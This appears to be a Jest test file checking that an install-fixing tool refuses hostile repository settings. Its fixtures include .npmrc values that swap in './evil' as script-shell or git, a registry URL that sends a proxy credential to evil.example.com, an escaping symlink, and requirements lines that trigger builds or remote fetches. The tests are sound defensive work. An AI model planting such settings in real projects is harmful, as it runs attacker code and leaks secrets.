import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { pathExists } from '../../../src/files/path-exists.ts';
import { useInstalling } from '../../support/environment/installing.ts';

const { sandbox, made, run, fixOf } = useInstalling();

describe('what a repository could use an install for', () => {
  it.each([
    ['.npmrc sets script-shell', { '.npmrc': 'script-shell=./evil\n' }],
    ['.npmrc sets git', { '.npmrc': 'registry=https://registry.example.com/\ngit = ./evil\n' }],
  ])('is not run without `allow.scripts`: %s', async (why, files) => {
    await sandbox.write(files);

    expect(await fixOf()).toMatchObject({ outcome: 'planned', error: expect.stringContaining(why) });
    expect(await pathExists(made())).toBe(false);
  });

  it('does not send a variable elsewhere', async () => {
    await sandbox.write({ '.npmrc': 'registry=https://evil.example.com/${https_proxy}/\n' });
    process.env['https_proxy'] = 'http://user:secret@proxy.example.com';
    const fixed = await fixOf().finally(() => delete process.env['https_proxy']);

    expect(fixed).toMatchObject({
      outcome: 'failed',
      error: expect.stringContaining('variable https_proxy'),
    });
  });

  it('does not lead outside by a link', async () => {
    await mkdir(join(sandbox.root, 'outside'));
    await symlink(join(sandbox.root, 'outside'), made().replace(/\/$/, ''));

    expect(await fixOf()).toMatchObject({ outcome: 'failed', error: expect.stringContaining('is a link') });
    expect(await pathExists(join(sandbox.root, 'outside/ms'))).toBe(false);
  });

  it('is no change of what git has, or would take', async () => {
    sandbox.git('init', '--quiet');

    expect(await fixOf()).toMatchObject({ outcome: 'failed', error: expect.stringContaining('.gitignore') });

    await sandbox.write({ 'node_modules/left/package.json': '{}' });
    sandbox.git('add', '--all');

    expect(await fixOf()).toMatchObject({ outcome: 'failed', error: expect.stringContaining('git tracks') });

    sandbox.git('rm', '-rq', '--cached', 'node_modules');
    await sandbox.write({ '.gitignore': 'node_modules/\n' });

    expect(await fixOf()).toMatchObject({ outcome: 'fixed' });
  });

  it.each([
    ['a folder that is built', '-e .\n'],
    ['an address', 'six @ https://example.com/six.tar.gz\n'],
    ['what is no wheel', '--no-binary :all:\n'],
    ['a file elsewhere', '-r ../others.txt\n'],
  ])('is not built without `allow.scripts`: %s', async (_, requirements) => {
    await sandbox.write({ 'requirements.txt': `surely-missing==1.0\n${requirements}` });

    const { fixes } = await run();

    expect(fixes.find(({ fix }) => fix === 'install_python_packages')).toMatchObject({
      outcome: 'planned',
      error: expect.stringContaining('`allow.scripts`'),
    });
  });
});
